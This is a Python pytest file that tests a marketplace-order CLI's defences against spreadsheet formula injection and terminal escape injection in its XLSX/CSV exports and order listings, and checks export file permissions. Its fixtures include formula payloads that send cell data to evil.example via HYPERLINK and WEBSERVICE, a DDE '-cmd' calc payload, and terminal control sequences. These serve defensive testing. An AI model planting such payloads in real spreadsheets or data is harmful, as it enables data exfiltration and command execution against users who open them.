"""Issue 16 items 1, 3 and 6: hostile MALL data in every export and on the terminal.

The findings: a customer name ``=HYPERLINK("http://evil.example/x?"&A1,"Click")`` and an item title
``=WEBSERVICE(...)`` became live formula cells in `export picking` (XLSX and CSV), `export billing`
and `orders list --format csv`; ``ESC[2J`` and an OSC window title in a name reached the terminal raw
from `orders list`; exports were created with the caller's umask. Here the hostile values are put
into the sandbox's orders, travel over real HTTP through the MallClient into the ledger, and every
file is read back cell by cell (and its raw XLSX XML searched for formula elements).
"""

from __future__ import annotations

import csv
import io
import os
import stat
import zipfile

import pytest
from openpyxl import load_workbook

HYPERLINK = '=HYPERLINK("http://evil.example/x?"&A1,"Click")'
WEBSERVICE = '=WEBSERVICE("http://evil.example/"&A1)'
HOSTILE_ADDRESS = {
    "name": HYPERLINK,
    "company": "\t=1+1",
    "street": "+SUM(1,2)",
    "city": "@SUM(1)",
    "zip": "-2+3",
    "phone": "+420 777 123 456",  # a phone number must stay intact
}
TERMINAL_NAME = "Eva \x1b[2J\x1b]0;pwned\x07Nová\r\x9b31m"
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def make_hostile(mall, oid: int, name: str = HYPERLINK) -> None:
    order = mall.sandbox.state._get(oid)  # MALL's own data, as a hostile customer typed it
    order["address"].update(HOSTILE_ADDRESS, name=name)
    for i, item in enumerate(order["items"]):
        item["title"] = WEBSERVICE if i == 0 else "-cmd|' /C calc'!A0"
    mall.sandbox.state._rows.pop(oid, None)


@pytest.fixture
def hostile(mall):
    a, b = mall.create(2)
    c = mall.create(1)[0]
    for oid in (a, b):
        make_hostile(mall, oid)
    make_hostile(mall, c, name=TERMINAL_NAME)
    mall.to_shipping(b)
    mall.to_delivered(c, "2026-11-05 10:00:00")
    mall.record(a, b, c)
    return {"open": [a, b], "delivered": c}


def assert_no_formula_cell(value: str, where: str) -> None:
    """A text cell a spreadsheet would run: starts like a formula and is not a plain signed number."""
    if value and value.startswith(FORMULA_START):
        digits = value.lstrip("+-").replace(" ", "")
        assert digits.isdigit(), f"{where}: live formula {value!r}"


def check_xlsx(path) -> int:
    """Every cell of every sheet: no formula type, no text that starts like one. Returns cells seen."""
    with zipfile.ZipFile(path) as z:
        for name in z.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in z.read(name) and b"<f " not in z.read(name), f"{name} has a formula element"
    seen = 0
    wb = load_workbook(path)
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{ws.title}!{cell.coordinate} is a formula: {cell.value!r}"
                if isinstance(cell.value, str):
                    seen += 1
                    assert_no_formula_cell(cell.value, f"{ws.title}!{cell.coordinate}")
    return seen


def check_csv_text(text: str, delimiter: str) -> list[list[str]]:
    rows = list(csv.reader(io.StringIO(text), delimiter=delimiter))
    for n, row in enumerate(rows, 1):
        for cell in row:
            assert_no_formula_cell(cell, f"line {n}")
    return rows


def test_picking_xlsx_has_no_formula_cell_and_keeps_the_text(cli, hostile, tmp_path):
    out = tmp_path / "picking.xlsx"
    r = cli("export", "picking", "-o", str(out))
    assert r.exit_code == 0, r.output
    assert check_xlsx(out) > 10
    values = [c.value for ws in load_workbook(out).worksheets for row in ws.iter_rows() for c in row]
    assert "'" + HYPERLINK in values and "'" + WEBSERVICE in values  # shown as text, nothing lost


def test_picking_csv_has_no_formula_cell(cli, hostile, tmp_path):
    out = tmp_path / "picking.csv"
    r = cli("export", "picking", "-o", str(out))
    assert r.exit_code == 0, r.output
    rows = check_csv_text(out.read_text(encoding="utf-8-sig"), ";")
    flat = [c for row in rows for c in row]
    assert "'" + HYPERLINK in flat and "'" + WEBSERVICE in flat


def test_billing_xlsx_has_no_formula_cell(cli, hostile, tmp_path):
    out = tmp_path / "billing.xlsx"
    r = cli("export", "billing", "--from", "2026-11-01", "--to", "2026-11-30", "-o", str(out))
    assert r.exit_code == 0, r.output
    assert check_xlsx(out) > 5
    titles = [c.value for c in load_workbook(out)["Billing"]["H"]]
    assert "'" + WEBSERVICE in titles


def test_orders_list_csv_has_no_formula_cell(cli, hostile):
    r = cli("orders", "list", "--status", "all", "--format", "csv")
    assert r.exit_code == 0, r.output
    rows = check_csv_text(r.output, ",")
    customers = [row[6] for row in rows[1:]]
    assert customers.count("'" + HYPERLINK) == 2


def test_orders_list_table_escapes_terminal_control_characters(cli, hostile):
    r = cli("orders", "list", "--status", "all")
    assert r.exit_code == 0, r.output
    for ch in ("\x1b", "\x07", "\r", "\x9b"):
        assert ch not in r.output
    assert "Eva \\x1b[2J\\x1b]0;pwned\\x07Nová\\r\\x9b31m" in r.output  # visible, not run
    assert r.output.count("\n") == 2 + 3  # header, rule, one line per order: nothing split a row


def test_orders_list_json_carries_no_raw_control_character(cli, hostile):
    r = cli("orders", "list", "--status", "all", "--format", "json")
    assert r.exit_code == 0
    assert not any(ch in r.output for ch in ("\x1b", "\x07", "\r", "\x9b"))
    import json

    names = {o["customer"] for o in json.loads(r.output)}
    assert TERMINAL_NAME in names  # escaped on the wire, the same text after parsing


@pytest.mark.parametrize("umask", [0o000, 0o022])
def test_exports_are_0600_whatever_the_umask(cli, hostile, tmp_path, umask):
    old = os.umask(umask)
    try:
        for name in ("p.xlsx", "p.csv"):
            assert cli("export", "picking", "-o", str(tmp_path / name)).exit_code == 0
        assert cli("export", "billing", "--from", "2026-11-01", "--to", "2026-11-30",
                   "-o", str(tmp_path / "b.xlsx")).exit_code == 0
    finally:
        os.umask(old)
    for name in ("p.xlsx", "p.csv", "b.xlsx"):
        assert stat.S_IMODE(os.stat(tmp_path / name).st_mode) == 0o600, name


def test_export_mode_option(cli, hostile, tmp_path):
    old = os.umask(0o077)  # --mode wins over a strict umask too
    try:
        assert cli("export", "picking", "--mode", "0640", "-o", str(tmp_path / "p.csv")).exit_code == 0
    finally:
        os.umask(old)
    assert stat.S_IMODE(os.stat(tmp_path / "p.csv").st_mode) == 0o640
    bad = cli("export", "picking", "--mode", "0755", "-o", str(tmp_path / "q.csv"))
    assert bad.exit_code == 2 and "no execute bits" in bad.output + (bad.stderr or "")
    assert not (tmp_path / "q.csv").exists()
